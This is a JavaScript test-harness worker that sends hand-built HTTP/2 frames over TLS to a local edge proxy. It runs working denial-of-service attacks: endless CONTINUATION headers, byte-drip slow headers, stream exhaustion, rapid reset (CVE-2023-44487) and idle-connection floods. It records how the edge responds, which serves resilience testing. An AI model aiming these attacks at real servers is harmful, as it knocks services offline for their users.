// Hostile bytes for the edge, by hand over TLS where Node's HTTP/2 would be too polite. Each attack ends by itself and
// tells what it sent and what the edge did about it, so that a test can tell an attack from a failure to attack. It
// runs in a worker thread, beside the honest callers, and comes from an address of its own.
import os from 'node:os';
import tls from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';
import { parentPort, workerData } from 'node:worker_threads';

const FROM = '127.0.0.66';
const HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, GOAWAY = 7, CONTINUATION = 9;  // RFC 9113 §6
const END_HEADERS = 4;
const REFUSED_STREAM = 7, CANCEL = 8;  // RFC 9113 §7
const FRAME_BYTES = 16 * 1024;
const PATIENCE_SECONDS = 40;

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

// RFC 7541 §6.2.2 and §6.1: each text under 127 bytes, without Huffman; ":method POST" and ":scheme https" by number.
function headerBlock(path, last = Buffer.alloc(0)) {
  const text = (value) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  const field = (name, value) => Buffer.concat([Buffer.from([0]), text(name), text(value)]);
  return Buffer.concat([Buffer.from([0x83, 0x87]), field(':path', path), field(':authority', 'localhost'),
    field('content-type', 'application/grpc'), field('te', 'trailers'), last]);
}

// The beginnings of a field "a" whose value is announced as 8 MiB long, and of one with 126 bytes.
const ENDLESS_FIELD = Buffer.from([0, 1, 0x61, 0x7f, 0x81, 0xff, 0xff, 0x03]);
const SLOW_FIELD = Buffer.from([0, 1, 0x61, 126]);

class Connection {
  frames = [];  // {type, code} of what the edge sent
  closed = false;

  static async open(port) {
    const connection = new Connection();
    await connection.#connect(port);
    connection.send(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0)]));
    return connection;
  }

  // False once the edge has closed; waits where the edge reads slowly.
  async send(bytes) {
    if (this.closed) return false;
    if (!this.socket.write(bytes)) await Promise.race([new Promise((go) => this.socket.once('drain', go)), this.end]);
    return !this.closed;
  }

  count(type, code) {
    return this.frames.filter((frame) => frame.type === type && (code === undefined || frame.code === code)).length;
  }

  get bytesSent() { return this.socket.bytesWritten; }
  destroy() { this.socket.destroy(); }

  async #connect(port) {
    // The certificate is the honest callers' concern.
    this.socket = tls.connect({ host: '127.0.0.1', port, localAddress: FROM, ALPNProtocols: ['h2'],
      rejectUnauthorized: false });
    this.end = new Promise((resolve) => this.socket.on('close', resolve)).then(() => { this.closed = true; });
    let unread = Buffer.alloc(0);
    this.socket.on('data', (bytes) => { unread = this.#read(Buffer.concat([unread, bytes])); });
    this.socket.on('end', () => { this.closed = true; });
    const ready = new Promise((resolve) => this.socket.on('secureConnect', resolve).on('error', resolve));
    await Promise.race([ready, this.end]);
  }

  #read(bytes) {
    while (bytes.length >= 9 && bytes.length >= 9 + bytes.readUIntBE(0, 3)) {
      const end = 9 + bytes.readUIntBE(0, 3);
      const type = bytes[3];
      const code = type === RST_STREAM ? bytes.readUInt32BE(9) : type === GOAWAY ? bytes.readUInt32BE(13) : undefined;
      this.frames.push({ type, code });
      bytes = bytes.subarray(end);
    }
    return bytes;
  }
}

// For some seconds; longer where the machine is too busy for the attack to have been one by then.
function goesOn(start, seconds, enough) {
  const passed = (Date.now() - start) / 1000;
  return passed < seconds || (!enough && passed < PATIENCE_SECONDS);
}

// Counts a connection that has had its day.
function tally(told, connection) {
  told.connections += 1;
  told.closedByEdge += connection.closed ? 1 : 0;
  told.goaways += connection.count(GOAWAY);
  connection.destroy();
}

const attacks = {
  // 8 MiB of headers that never end, over as many connections as it takes.
  async unfinishedHeaders({ port, bytes = 8 * 1024 * 1024 }) {
    const told = { sent: 0, connections: 0, closedByEdge: 0, goaways: 0 };
    while (told.sent < bytes) {
      const connection = await Connection.open(port);
      let open = await connection.send(frame(HEADERS, 0, 1, headerBlock('/', ENDLESS_FIELD)));
      while (open && told.sent + connection.bytesSent < 2 * bytes) {
        open = await connection.send(frame(CONTINUATION, 0, 1, Buffer.alloc(FRAME_BYTES, 'a')));
        await sleep(0);  // hears whether the edge has closed
      }
      told.sent += connection.bytesSent;
      tally(told, connection);
    }
    return told;
  },

  // A hundred connections whose headers come a byte at a time, until the edge has had enough of each.
  async slowHeaders({ port, connections = 100 }) {
    const slow = await Promise.all(Array.from({ length: connections }, () => Connection.open(port)));
    const start = Date.now();
    const seconds = [];
    const drip = async (connection) => {
      await connection.send(frame(HEADERS, 0, 1, headerBlock('/', SLOW_FIELD)));
      while (goesOn(start, 0, connection.count(RST_STREAM) > 0)) {
        await sleep(250);
        await connection.send(frame(CONTINUATION, 0, 1, Buffer.from('a')));
      }
      if (connection.count(RST_STREAM) > 0) seconds.push((Date.now() - start) / 1000);
      connection.destroy();
    };
    await Promise.all(slow.map(drip));
    return { connections, refused: seconds.length, secondsMin: Math.min(...seconds), secondsMax: Math.max(...seconds) };
  },

  // A thousand calls begun on each connection, none of which is ever finished.
  async tooManyStreams({ port, path, streams = 1000, seconds = 4 }) {
    const told = { begun: 0, refused: 0, connections: 0, closedByEdge: 0, goaways: 0 };
    for (const start = Date.now(); goesOn(start, seconds, told.goaways > 0);) {
      const connection = await Connection.open(port);
      for (let i = 0; i < streams && !connection.closed; ++i, ++told.begun)
        await connection.send(frame(HEADERS, END_HEADERS, 2 * i + 1, headerBlock(path)));
      await Promise.race([sleep(seconds * 1000), connection.end]);
      told.refused += connection.count(RST_STREAM, REFUSED_STREAM);
      tally(told, connection);
    }
    return told;
  },

  // Calls that are cancelled in the moment they are made (CVE-2023-44487), as fast as the edge takes them.
  async rapidResets({ port, path, seconds = 4 }) {
    const told = { resets: 0, connections: 0, goaways: 0, closedByEdge: 0 };
    const cancel = Buffer.alloc(4);
    cancel.writeUInt32BE(CANCEL);
    const enough = () => told.resets >= 20_000;
    for (const start = Date.now(); goesOn(start, seconds, enough());) {
      const connection = await Connection.open(port);
      for (let stream = 1, open = true; open && goesOn(start, seconds, enough());) {
        const volley = [];
        for (let i = 0; i < 50; ++i, stream += 2)
          volley.push(frame(HEADERS, END_HEADERS, stream, headerBlock(path)), frame(RST_STREAM, 0, stream, cancel));
        open = await connection.send(Buffer.concat(volley));
        told.resets += 50;
        await sleep(0);
      }
      tally(told, connection);
    }
    return told;
  },

  // Two hundred connections that say nothing.
  async idleConnections({ port, connections = 200, holdSeconds = 4 }) {
    const idle = [];
    for (let i = 0; i < connections; ++i) idle.push(await Connection.open(port));
    const opened = idle.filter((connection) => connection.frames.length > 0 || !connection.closed).length;
    await sleep(holdSeconds * 1000);
    const told = { connections, opened, closedByEdge: idle.filter((connection) => connection.closed).length };
    for (const connection of idle) connection.destroy();
    return told;
  },
};

os.setPriority(os.constants.priority.PRIORITY_LOW);  // of this thread: who attacks has a machine of his own
parentPort.postMessage(await attacks[workerData.attack](workerData));
